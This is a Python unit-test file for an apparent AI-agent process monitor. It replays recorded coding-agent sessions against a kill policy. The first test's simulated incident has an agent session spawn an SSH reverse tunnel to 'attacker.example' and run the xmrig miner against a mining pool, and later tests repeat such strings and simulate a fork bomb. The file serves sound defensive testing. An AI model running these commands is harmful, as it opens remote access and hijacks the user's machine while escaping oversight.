"""Unit tests for monitor.policy.replay: recordings in the `trace --json/--record` format (written
here with monitor/observe/output.py's own record(), from typed events) replayed against a policy."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from monitor.model.errors import ConfigError, Location
from monitor.model.events import (
    Event,
    ExecEvent,
    ExitEvent,
)
from monitor.observe.output import record
from monitor.policy.engine import Verdict
from monitor.policy.load import default_policy, load_policy_text
from monitor.policy.replay import read_recording, replay
from monitor.policy.types import Action
from tests.support.events import S1, S2, exec_event, exit_event
from tests.support.events import connect_event as connect_ev
from tests.support.events import fork_event as fork_ev

SEC = 1_000_000_000
DEFAULT = default_policy()
KILLS = (Action.KILL, Action.KILL_AGENT)


def exec_ev(pid: int, ts: int, cmd: str, *, session: int = S1, ppid: int = 0,
            exe: str | None = None) -> ExecEvent:
    return exec_event(pid, ts, cmd, session=session, ppid=ppid, exe=exe, cgroup_id=7)


def exit_ev(pid: int, ts: int, *, session: int = S1) -> ExitEvent:
    return exit_event(pid, ts, ppid=1, cpu_ns=5, session=session)


def write(path: Path, events: list[tuple[Event, str]]) -> str:
    """A recording as `agentwatch trace --record` writes it: one JSON object a line."""
    path.write_text("".join(json.dumps(record(ev, agent)) + "\n" for ev, agent in events))
    return str(path)


def replayed(path: str) -> list[Verdict]:
    return replay(DEFAULT, read_recording(path))


def kills(verdicts: list[Verdict]) -> list[tuple[str, int, str]]:
    return [(v.rule, v.pid, v.action.value) for v in verdicts if v.action in KILLS]


def session_start(session: int = S1, base: int = 100, agent: str = "claude-code"
                  ) -> list[tuple[Event, str]]:
    return [
        (exec_ev(base, 1 * SEC, "claude --resume", session=session,
                 exe="/opt/claude/bin/claude"), agent),
        (fork_ev(base, base + 1, 2 * SEC, session=session), agent),
        (exec_ev(base + 1, 3 * SEC, "bash -c work", session=session, ppid=base), agent),
    ]


def test_the_recorded_incident_is_killed(tmp_path: Path) -> None:
    path = write(tmp_path / "incident.jsonl", session_start() + [
        (fork_ev(101, 102, 4 * SEC), "claude-code"),
        (exec_ev(102, 5 * SEC, "ssh -fNR 2222:localhost:22 attacker.example", ppid=101),
         "claude-code"),
        (fork_ev(101, 103, 6 * SEC), "claude-code"),
        (exec_ev(103, 7 * SEC, "xmrig -o pool.example:3333 -u wallet", ppid=101),
         "claude-code"),
        (connect_ev(103, 8 * SEC, "45.9.8.7", 3333), "claude-code"),
        (connect_ev(103, 9 * SEC, "::ffff:45.9.8.7", 14444), "claude-code"),
    ])
    verdicts = replayed(path)
    assert kills(verdicts) == [
        ("ssh-reverse-or-dynamic-forward", 102, "kill"),
        ("no-miners", 103, "kill"),
        ("mining-pool-ports", 103, "kill"),
        ("mining-pool-ports", 103, "kill"),
    ]
    assert all(v.agent == "claude-code" and v.session == S1 for v in verdicts)
    assert verdicts[2].reason == ("connect to 45.9.8.7:3333 (address in @public_internet, "
                                  "port in @mining_ports)")
    assert verdicts[3].destination == "45.9.8.7:14444"


def test_ordinary_work_gives_no_verdict(tmp_path: Path) -> None:
    path = write(tmp_path / "work.jsonl", session_start() + [
        (exec_ev(101, 4 * SEC, "git push origin main"), "claude-code"),
        (connect_ev(101, 5 * SEC, "140.82.112.3", 443), "claude-code"),
        (exec_ev(101, 6 * SEC, "make -j8"), "claude-code"),
        (exec_ev(101, 7 * SEC, "gcc -O2 -c x.c"), "claude-code"),
        (exec_ev(101, 8 * SEC, "ssh host make"), "claude-code"),
        (connect_ev(101, 9 * SEC, "127.0.0.1", 3333), "claude-code"),  # a dev server
        (connect_ev(101, 10 * SEC, "10.0.0.5", 4444), "claude-code"),
        (connect_ev(101, 11 * SEC, "2606:4700::1", 443), "claude-code"),
        (exec_ev(101, 12 * SEC, "npm test"), "claude-code"),
        (exit_ev(101, 13 * SEC), "claude-code"),
    ])
    assert replayed(path) == []


def test_verdicts_follow_the_policy_given(tmp_path: Path) -> None:
    path = write(tmp_path / "r.jsonl", session_start() + [
        (exec_ev(101, 4 * SEC, "npm install"), "claude-code"),
        (exec_ev(101, 5 * SEC, "npm install"), "codex"),
    ])
    p = load_policy_text(
        "mode: monitor\n"
        "agents: [{name: claude-code, match: [{comm: claude}]},"
        " {name: codex, match: [{comm: codex}]}]\n"
        "rules:\n"
        "  - {name: no-npm, event: exec, agents: [codex], action: kill, match: {name: [npm]}}\n",
        "p.yaml")
    [v] = replay(p, read_recording(path))
    assert (v.rule, v.agent, v.pid, v.mode.value) == ("no-npm", "codex", 101, "monitor")


def test_a_fork_bomb_gives_exactly_one_kill_agent(tmp_path: Path) -> None:
    events = session_start()  # 100 and 101 live
    events += [(fork_ev(101, 1000 + i, 4 * SEC + i), "claude-code") for i in range(1998)]
    path = write(tmp_path / "bomb.jsonl", events)
    assert replayed(path) == []  # 2000 live: at the limit, not above it
    more: list[tuple[Event, str]] = [
        (fork_ev(1000 + i, 5000 + i, 5 * SEC + i), "claude-code") for i in range(500)]
    path = write(tmp_path / "bomb.jsonl", events + more)
    [v] = replayed(path)
    assert (v.rule, v.action, v.session, v.processes) == ("fork-bomb", Action.KILL_AGENT, S1,
                                                          2001)


def test_exits_keep_the_live_count_below_the_limit(tmp_path: Path) -> None:
    events = session_start()
    for i in range(3000):  # a build: many short-lived processes, never 2000 at once
        events.append((fork_ev(101, 1000 + i, 4 * SEC + 2 * i), "claude-code"))
        events.append((exit_ev(1000 + i, 4 * SEC + 2 * i + 1), "claude-code"))
    assert replayed(write(tmp_path / "build.jsonl", events)) == []


def test_each_session_has_its_own_fork_bomb_count(tmp_path: Path) -> None:
    events = session_start(S1) + session_start(S2, base=200, agent="codex")
    for i in range(1500):
        events.append((fork_ev(101, 1000 + i, 4 * SEC), "claude-code"))
        events.append((fork_ev(201, 5000 + i, 4 * SEC, session=S2), "codex"))
    assert replayed(write(tmp_path / "two.jsonl", events)) == []


def test_a_processes_alert_fires_once_per_session(tmp_path: Path) -> None:
    p = load_policy_text(
        "mode: enforce\n"
        "agents: [{name: claude-code, match: [{comm: claude}]}]\n"
        "rules:\n"
        "  - {name: many, event: processes, action: alert, match: {above: 5}}\n", "p.yaml")
    events = session_start()
    events += [(fork_ev(101 + i, 102 + i, 4 * SEC + i), "claude-code") for i in range(20)]
    assert len(replay(p, read_recording(write(tmp_path / "r.jsonl", events)))) == 1


def test_untracked_processes_are_ignored(tmp_path: Path) -> None:
    events: list[tuple[Event, str]] = [
        # `trace --all`: processes outside any agent session
        (exec_ev(500, 1 * SEC, "xmrig -o pool:3333", session=0), ""),
        (connect_ev(500, 2 * SEC, "45.9.8.7", 3333, session=0), ""),
        (exec_ev(501, 3 * SEC, "ssh -fNR 1:x:2 h", session=0), ""),
        # a session no agent was named for (a pending candidate): agent null
        (exec_ev(600, 4 * SEC, "xmrig", session=S2), ""),
    ]
    events += [(fork_ev(700, 800 + i, 5 * SEC, session=0), "") for i in range(2100)]
    path = write(tmp_path / "all.jsonl", events)
    first = json.loads(Path(path).read_text().splitlines()[0])
    assert first["agent"] is None and first["session"] == 0
    assert replayed(path) == []


def test_blank_lines_and_comments_are_skipped(tmp_path: Path) -> None:
    line = json.dumps(record(exec_ev(100, SEC, "xmrig"), "claude-code"))
    path = tmp_path / "r.jsonl"
    path.write_text(f"# recorded on host a\n\n{line}\n   \n")
    assert kills(replayed(str(path))) == [("no-miners", 100, "kill")]


# --- malformed recordings -----------------------------------------------------------------


def problem(path: str) -> tuple[Location, str]:
    with pytest.raises(ConfigError) as info:
        list(read_recording(path))
    assert len(info.value.problems) == 1
    return info.value.problems[0]


GOOD = json.dumps(record(exec_ev(100, SEC, "git status"), "claude-code"))


@pytest.mark.parametrize(("bad", "what"), [
    ("{not json", "not a JSON event record"),
    ('{"pid": 1, "agent": "claude-code"}', "not an agentwatch event record"),
    ('["exec", 1]', "not an agentwatch event record"),
    ('"exec"', "not an agentwatch event record"),
    ("12", "not an agentwatch event record"),
])
def test_a_malformed_line_is_reported_with_file_and_line(tmp_path: Path, bad: str,
                                                         what: str) -> None:
    path = tmp_path / "rec.jsonl"
    path.write_text(f"{GOOD}\n# a comment\n{bad}\n{GOOD}\n")
    loc, reason = problem(str(path))
    assert loc == Location(str(path), 3)
    assert what in reason
    assert str(ConfigError([(loc, reason)])).startswith(f"{path}:3: ")


def test_a_truncated_last_line_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "rec.jsonl"
    path.write_text(f"{GOOD}\n{GOOD[:20]}")  # the recorder was killed mid-write
    loc, _ = problem(str(path))
    assert loc == Location(str(path), 2)


@pytest.mark.parametrize("name", ["missing.jsonl", "a-directory"])
def test_an_unreadable_recording_is_reported(tmp_path: Path, name: str) -> None:
    (tmp_path / "a-directory").mkdir()
    path = str(tmp_path / name)
    loc, reason = problem(path)
    assert loc == Location(path)
    assert reason.startswith("cannot read the recording")


def test_a_binary_recording_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "rec.jsonl.gz"
    path.write_bytes(f"{GOOD}\n".encode() + b"\x1f\x8b\x08\x00\xff\xfe\n")
    loc, _ = problem(str(path))
    assert loc == Location(str(path), 2)


def test_a_record_without_its_fields_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "rec.jsonl"
    rec: dict[str, Any] = {"event": "exec", "agent": "claude-code", "session": S1}
    path.write_text(f"{GOOD}\n{json.dumps(rec)}\n")
    with pytest.raises(ConfigError) as info:
        replay(DEFAULT, read_recording(str(path)))
    assert info.value.problems[0][0] == Location(str(path), 2)
